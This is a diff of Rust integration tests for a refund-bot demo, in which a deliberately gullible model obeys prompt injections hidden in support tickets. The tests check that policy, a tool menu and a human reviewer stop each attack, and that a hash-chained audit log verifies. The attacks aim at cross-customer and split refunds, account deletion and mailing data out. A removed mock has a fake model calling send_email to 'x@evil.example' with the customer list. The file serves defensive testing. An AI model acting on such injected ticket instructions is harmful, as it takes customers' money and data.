@@ -1,18 +1,131 @@
-//! The demo, end to end, as a newcomer runs it: offline, exit code 0, every attack stopped, the
-//! honest tickets resolved, and an audit log whose chain verifies.
+//! The demo, end to end: the offline queue, the gullible model obeying every injection, and
+//! proof from the audit store (the log's verified chain, rebuilt into SQLite) and from the desk
+//! that each attack's aim did not happen while each honest ticket's effect did.
 
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
+mod support;
+
+use agent_core::audit::{AuditQuery, AuditStore, verify_file};
+use refund_bot::demo::ModelChoice;
+use refund_bot::manifest::{ApprovalChannel, ToolSource};
+use refund_bot::queue::{Queue, TicketKind, Verdict};
 use std::process::Command;
+use support::run_demo;
+
+/// Events of `task` at `stage` with `verdict`, about `tool`, from the store.
+fn events(store: &AuditStore, task: &str, tool: &str, verdict: &str) -> usize {
+    let query = AuditQuery {
+        task: Some(task.to_owned()),
+        tool: Some(tool.to_owned()),
+        verdict: Some(verdict.to_owned()),
+        ..AuditQuery::default()
+    };
+    store.query(&query).unwrap().len()
+}
+
+fn cents(desk: &tools::Desk, order: &str) -> i64 {
+    desk.refunds_total(order).unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_offline_queue_stops_every_attack_and_serves_every_honest_customer() {
+    let dir = tempfile::tempdir().unwrap();
+    let original = tools::Desk::demo().unwrap();
+    let (outcome, transcript) =
+        run_demo(dir.path(), &ModelChoice::Gullible, ApprovalChannel::Deny, ToolSource::InProcess)
+            .await;
+    assert!(outcome.all_good(), "{transcript}");
+    let queue =
+        Queue::load(refund_bot::manifest::default_path().with_file_name("tickets.toml")).unwrap();
+    assert!(queue.tickets.iter().filter(|t| t.kind == TicketKind::Honest).count() >= 4);
+    assert!(queue.tickets.iter().filter(|t| t.kind == TicketKind::Attack).count() >= 5);
+    for ticket in &outcome.tickets {
+        // The gullible model tries every attack: none passes for stopped without being tried.
+        if ticket.kind == TicketKind::Attack {
+            assert_eq!(ticket.verdict, Verdict::Stopped, "{}: {transcript}", ticket.id);
+        }
+    }
+
+    // The chain verifies, and a store rebuilt from it answers the questions below.
+    let summary = verify_file(&outcome.audit_path).unwrap();
+    assert_eq!(summary.events, outcome.events);
+    let store = AuditStore::in_memory().unwrap();
+    store.rebuild_from(&outcome.audit_path).unwrap();
+
+    // Honest effects happened, each with its intent recorded before and its outcome after.
+    for (task, tool) in [
+        ("T-2001", "issue_refund"),
+        ("T-2003", "cancel_pending_order"),
+        ("T-2004", "reply_to_customer"),
+    ] {
+        assert_eq!(events(&store, task, tool, "intent"), 1, "{task} {tool}");
+        assert_eq!(events(&store, task, tool, "succeeded"), 1, "{task} {tool}");
+    }
+    let desk = &outcome.desk;
+    assert_eq!(cents(desk, "#W8207524"), 3031);
+    assert_eq!(serde_json::to_value(desk.order("#W4803024").unwrap().status).unwrap(), "cancelled");
+    assert_eq!(desk.ticket("T-2004").unwrap().replies.len(), 1);
+    // The large refund was put to the reviewer, who said no: asked, denied, never run.
+    assert_eq!(events(&store, "T-2002", "issue_refund", "needs_approval"), 1);
+    assert_eq!(events(&store, "T-2002", "issue_refund", "intent"), 0);
+    assert_eq!(cents(desk, "#W6817203"), 0);
+
+    // Attacks: the model asked, the runtime refused, nothing reached the intent stage.
+    for (task, tool) in [
+        ("T-2101", "issue_refund"),
+        ("T-2102", "issue_refund"),
+        ("T-2103", "send_email"),
+        ("T-2104", "issue_refund"),
+        ("T-2106", "return_delivered_order_items"),
+        ("T-2107", "delete_customer_account"),
+    ] {
+        assert!(events(&store, task, tool, "deny") >= 1, "{task}: {tool} was never refused");
+        assert_eq!(events(&store, task, tool, "intent"), 0, "{task}: {tool} reached execution");
+    }
+    // The split refund: every part refused.
+    assert!(events(&store, "T-2105", "issue_refund", "deny") >= 5);
+    assert_eq!(events(&store, "T-2105", "issue_refund", "intent"), 0);
+
+    // The database is unchanged where the attacks aimed.
+    for order in ["#W0750660", "#W2733771", "#W9579501", "#W7368795", "#W1383727", "#W9362017"] {
+        assert_eq!(desk.order(order), original.order(order), "{order} changed");
+    }
+    assert!(desk.outbox().is_empty(), "mail left the shop");
+    assert!(desk.user("emma_muller_1757").is_some(), "an account was deleted");
+    assert!(transcript.contains("attacks stopped 7/7"), "{transcript}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_reviewer_who_says_yes_lets_honest_refunds_through_but_no_attack() {
+    let dir = tempfile::tempdir().unwrap();
+    let (outcome, transcript) = run_demo(
+        dir.path(),
+        &ModelChoice::Gullible,
+        ApprovalChannel::Approve,
+        ToolSource::InProcess,
+    )
+    .await;
+    assert!(outcome.all_good(), "{transcript}");
+    for ticket in &outcome.tickets {
+        let expected = match ticket.kind {
+            TicketKind::Honest => Verdict::Resolved,
+            TicketKind::Attack => Verdict::Stopped,
+        };
+        assert_eq!(ticket.verdict, expected, "{}: {transcript}", ticket.id);
+    }
+    assert_eq!(cents(&outcome.desk, "#W6817203"), 30955);
+    assert!(cents(&outcome.desk, "#W7368795") <= 10000, "{transcript}");
+}
 
 #[test]
-fn the_offline_demo_stops_the_attack_and_resolves_the_honest_tickets() {
+fn the_binary_runs_the_queue_offline_and_exits_zero() {
     let dir = tempfile::tempdir().unwrap();
     let log = dir.path().join("audit.jsonl");
     let output = Command::new(env!("CARGO_BIN_EXE_refund-bot"))
         // Never the real API from a test, whatever the developer's shell holds.
         .env_remove("ANTHROPIC_API_KEY")
-        .args(["--audit-log", log.to_str().unwrap(), "--approver", "approve"])
+        .args(["--audit-log", log.to_str().unwrap(), "--approver", "deny"])
         .output()
         .unwrap();
     let stdout = String::from_utf8_lossy(&output.stdout);
@@ -21,209 +134,29 @@ fn the_offline_demo_stops_the_attack_and_resolves_the_honest_tickets() {
         "demo failed:\n{stdout}\n{}",
         String::from_utf8_lossy(&output.stderr)
     );
-    assert_eq!(stdout.matches("→ honest ticket resolved").count(), 2, "{stdout}");
-    assert!(stdout.contains("→ attack stopped"), "{stdout}");
-    assert!(stdout.contains("DENIED by policy (cross_customer)"), "{stdout}");
-    assert!(stdout.contains("DENIED by policy (refund_exceeds_payment)"), "{stdout}");
-    assert!(stdout.contains("DENIED by Menu (unknown_tool)"), "{stdout}");
-    assert!(stdout.contains("approved by script via scripted, ran"), "{stdout}");
-    assert!(stdout.contains("money refunded:      $204.99"), "{stdout}");
-    assert!(stdout.contains("approvals asked:     1"), "{stdout}");
-
-    // The log is there, verifies, and holds the refused calls with their reasons.
-    let summary = agent_core::audit::verify_file(&log).unwrap();
-    assert!(summary.events > 30);
-    let text = std::fs::read_to_string(&log).unwrap();
-    assert!(text.contains("\"cross_customer\"") && text.contains("\"refund_exceeds_payment\""));
-    // No refund of another customer's order ever reached the intent stage.
-    for line in text.lines() {
-        let event: serde_json::Value = serde_json::from_str(line).unwrap();
-        if event["stage"] == "intent" && event["tool"] == "issue_refund" {
-            assert_ne!(event["task"], "T-1003", "an injected refund reached execution: {line}");
-        }
-    }
+    // Plain text when not on a terminal.
+    assert!(!stdout.contains('\x1b'), "{stdout}");
+    assert!(stdout.contains("model asks issue_refund"), "{stdout}");
+    assert!(stdout.contains("policy ✗ cross_customer"), "{stdout}");
+    assert!(stdout.contains("menu ✗"), "{stdout}");
+    assert!(stdout.contains("hash chain verified"), "{stdout}");
+    verify_file(&log).unwrap();
 }
 
 #[test]
 fn help_explains_the_demo_and_bad_arguments_are_refused() {
-    let help = Command::new(env!("CARGO_BIN_EXE_refund-bot"))
-        // Never the real API from a test, whatever the developer's shell holds.
-        .env_remove("ANTHROPIC_API_KEY")
-        .arg("--help")
-        .output()
-        .unwrap();
+    let run = |arg: &str| {
+        Command::new(env!("CARGO_BIN_EXE_refund-bot"))
+            .env_remove("ANTHROPIC_API_KEY")
+            .arg(arg)
+            .output()
+            .unwrap()
+    };
+    let help = run("--help");
     assert!(help.status.success());
-    assert!(String::from_utf8_lossy(&help.stdout).contains("Usage: refund-bot"));
-    let bad = Command::new(env!("CARGO_BIN_EXE_refund-bot"))
-        // Never the real API from a test, whatever the developer's shell holds.
-        .env_remove("ANTHROPIC_API_KEY")
-        .arg("--frobnicate")
-        .output()
-        .unwrap();
+    let text = String::from_utf8_lossy(&help.stdout);
+    assert!(text.contains("Usage: refund-bot") && text.contains("--manifest"), "{text}");
+    let bad = run("--frobnicate");
     assert_eq!(bad.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&bad.stderr).contains("unknown argument `--frobnicate`"));
-}
-
-#[test]
-fn without_a_terminal_approval_requests_are_answered_no_and_the_honest_ticket_is_held() {
-    let dir = tempfile::tempdir().unwrap();
-    let log = dir.path().join("audit.jsonl");
-    let output = Command::new(env!("CARGO_BIN_EXE_refund-bot"))
-        // Never the real API from a test, whatever the developer's shell holds.
-        .env_remove("ANTHROPIC_API_KEY")
-        .args(["--audit-log", log.to_str().unwrap()])
-        .env_remove("ANTHROPIC_API_KEY")
-        .stdin(std::process::Stdio::null())
-        .output()
-        .unwrap();
-    let stdout = String::from_utf8_lossy(&output.stdout);
-    let stderr = String::from_utf8_lossy(&output.stderr);
-    assert!(output.status.success(), "{stdout}\n{stderr}");
-    assert!(stderr.contains("approval requests are answered no"), "{stderr}");
-    assert!(stdout.contains("→ honest ticket held: the reviewer said no"), "{stdout}");
-    assert!(stdout.contains("money refunded:      $24.99"), "{stdout}");
-    // The no is on record, signed.
-    let text = std::fs::read_to_string(&log).unwrap();
-    let approval = text
-        .lines()
-        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
-        .find(|event| event["stage"] == "approval")
-        .unwrap();
-    assert_eq!(approval["detail"]["record"]["decision"], "denied");
-    assert!(approval["detail"]["signature"]["signature"].is_string());
-}
-
-#[test]
-fn an_unknown_approver_is_refused() {
-    let bad = Command::new(env!("CARGO_BIN_EXE_refund-bot"))
-        // Never the real API from a test, whatever the developer's shell holds.
-        .env_remove("ANTHROPIC_API_KEY")
-        .args(["--approver", "yolo"])
-        .output()
-        .unwrap();
-    assert_eq!(bad.status.code(), Some(2));
-    assert!(String::from_utf8_lossy(&bad.stderr).contains("unknown approver `yolo`"));
-}
-
-#[test]
-fn audit_verify_and_query_answer_from_the_chain() {
-    let dir = tempfile::tempdir().unwrap();
-    let log = dir.path().join("audit.jsonl");
-    let run = Command::new(env!("CARGO_BIN_EXE_refund-bot"))
-        // Never the real API from a test, whatever the developer's shell holds.
-        .env_remove("ANTHROPIC_API_KEY")
-        .args(["--audit-log", log.to_str().unwrap(), "--approver", "approve"])
-        .output()
-        .unwrap();
-    assert!(run.status.success());
-    // The run mirrored every event into the query store beside the log.
-    assert!(dir.path().join("audit.sqlite").exists());
-
-    let query = Command::new(env!("CARGO_BIN_EXE_refund-bot"))
-        // Never the real API from a test, whatever the developer's shell holds.
-        .env_remove("ANTHROPIC_API_KEY")
-        .args(["audit", "query", log.to_str().unwrap(), "--verdict", "deny", "--json"])
-        .output()
-        .unwrap();
-    assert!(query.status.success());
-    let denied: Vec<serde_json::Value> = String::from_utf8_lossy(&query.stdout)
-        .lines()
-        .map(|line| serde_json::from_str(line).unwrap())
-        .collect();
-    let codes: Vec<&str> =
-        denied.iter().map(|event| event["reasons"][0]["code"].as_str().unwrap()).collect();
-    assert_eq!(codes, ["unknown_tool", "refund_exceeds_payment", "cross_customer"]);
-
-    let verify = |path: &std::path::Path| {
-        Command::new(env!("CARGO_BIN_EXE_refund-bot"))
-            // Never the real API from a test, whatever the developer's shell holds.
-            .env_remove("ANTHROPIC_API_KEY")
-            .args(["audit", "verify", path.to_str().unwrap()])
-            .output()
-            .unwrap()
-    };
-    assert!(verify(&log).status.success());
-    // Someone edits one event: verification fails and names the line; queries refuse the log.
-    let text = std::fs::read_to_string(&log).unwrap();
-    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
-    let edited = lines.iter().position(|line| line.contains("\"verdict\":\"allow\"")).unwrap();
-    lines[edited] = lines[edited].replacen("\"verdict\":\"allow\"", "\"verdict\":\"deny\"", 1);
-    std::fs::write(&log, lines.join("\n") + "\n").unwrap();
-    let broken = verify(&log);
-    assert_eq!(broken.status.code(), Some(1));
-    let said = String::from_utf8_lossy(&broken.stderr);
-    assert!(said.contains(&format!("line {}", edited + 1)), "{said}");
-    let refused = Command::new(env!("CARGO_BIN_EXE_refund-bot"))
-        // Never the real API from a test, whatever the developer's shell holds.
-        .env_remove("ANTHROPIC_API_KEY")
-        .args(["audit", "query", log.to_str().unwrap()])
-        .output()
-        .unwrap();
-    assert!(!refused.status.success());
-}
-
-/// The real-Claude path, against a fake Messages API: the client, the loop and the guards as they
-/// run with a key, without a network. The fake Claude is as compromised as the scripted one: it
-/// answers every ticket by trying to e-mail the customer list.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn with_a_key_the_tickets_run_on_the_messages_api() {
-    use wiremock::matchers::{body_string_contains, header, method, path};
-    use wiremock::{Mock, MockServer, ResponseTemplate};
-    let server = MockServer::start().await;
-    let turn = |stop: &str, content: serde_json::Value| {
-        serde_json::json!({"id": "msg", "type": "message", "role": "assistant", "model": "claude-sonnet-5",
-                           "content": content, "stop_reason": stop, "usage": {"input_tokens": 1, "output_tokens": 1}})
-    };
-    Mock::given(method("POST"))
-        .and(path("/v1/messages"))
-        .and(body_string_contains("tool_result"))
-        .respond_with(ResponseTemplate::new(200).set_body_json(turn(
-            "end_turn",
-            serde_json::json!([{"type": "text", "text": "Done."}]),
-        )))
-        .mount(&server)
-        .await;
-    Mock::given(method("POST"))
-        .and(path("/v1/messages"))
-        .and(header("x-api-key", "sk-ant-test"))
-        .respond_with(ResponseTemplate::new(200).set_body_json(turn(
-            "tool_use",
-            serde_json::json!([{"type": "tool_use", "id": "toolu_1", "name": "send_email",
-                                "input": {"to": "x@evil.example", "subject": "list", "body": "all"}}]),
-        )))
-        .mount(&server)
-        .await;
-
-    let dir = tempfile::tempdir().unwrap();
-    let log = dir.path().join("audit.jsonl");
-    let binary = env!("CARGO_BIN_EXE_refund-bot");
-    let uri = server.uri();
-    let output = tokio::task::spawn_blocking(move || {
-        Command::new(binary)
-            .args(["--audit-log", log.to_str().unwrap(), "--approver", "deny"])
-            .env("ANTHROPIC_API_KEY", "sk-ant-test")
-            .env("ANTHROPIC_BASE_URL", uri)
-            .output()
-            .unwrap()
-    })
-    .await
-    .unwrap();
-    let stdout = String::from_utf8_lossy(&output.stdout);
-    assert!(stdout.starts_with("model: claude-sonnet-5 at http://127.0.0.1"), "{stdout}");
-    assert_eq!(stdout.matches("DENIED by Menu (unknown_tool)").count(), 3, "{stdout}");
-    assert!(stdout.contains("→ attack stopped"), "{stdout}");
-    // This fake Claude resolves nothing, so the honest tickets are not resolved: exit 1.
-    assert_eq!(output.status.code(), Some(1));
-    let received = server.received_requests().await.unwrap();
-    let first: serde_json::Value = serde_json::from_slice(&received[0].body).unwrap();
-    let tools: Vec<&str> =
-        first["tools"].as_array().unwrap().iter().map(|t| t["name"].as_str().unwrap()).collect();
-    assert_eq!(tools, ["get_order_details", "issue_refund"], "only the menu is advertised");
-    assert_eq!(first["model"], "claude-sonnet-5");
-    assert!(
-        first["messages"][0]["content"][0]["text"]
-            .as_str()
-            .unwrap()
-            .contains("<untrusted source=\"ticket\">")
-    );
 }
